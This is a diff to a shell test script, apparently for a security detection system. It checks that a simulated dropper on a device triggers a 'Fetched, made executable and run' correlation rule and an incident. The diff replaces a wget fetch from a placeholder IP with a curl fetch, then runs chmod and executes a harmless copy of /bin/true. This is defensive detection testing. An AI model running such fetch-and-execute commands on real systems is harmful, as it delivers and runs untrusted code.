@@ -23,7 +23,7 @@ incident_has() { desk incident list --limit 0 --json | jq -e ".items | any(.[].t
 check "the installed pack is in use" pack_is '.about == "the installed pack" and .active >= 60'
 
 # A dropper: fetched, made executable and run. There is nothing to fetch, which makes no difference.
-on device sh -c 'cd /tmp; cp /bin/true fetched; wget -q http://192.0.2.99/x -O /tmp/x -T 1 -t 1; chmod +x /tmp/fetched; /tmp/fetched' \
+on device sh -c 'cd /tmp; cp /bin/true fetched; curl -s -m 1 -o /tmp/x http://192.0.2.99/x; chmod +x /tmp/fetched; /tmp/fetched' \
 	>/dev/null 2>&1
 wait_for 10 "the three steps are one correlation" rule_has "Fetched, made executable and run" '.matched >= 1'
 wait_for 10 "the operator has the incident" incident_has '.title | test("Fetched, made executable and run")'
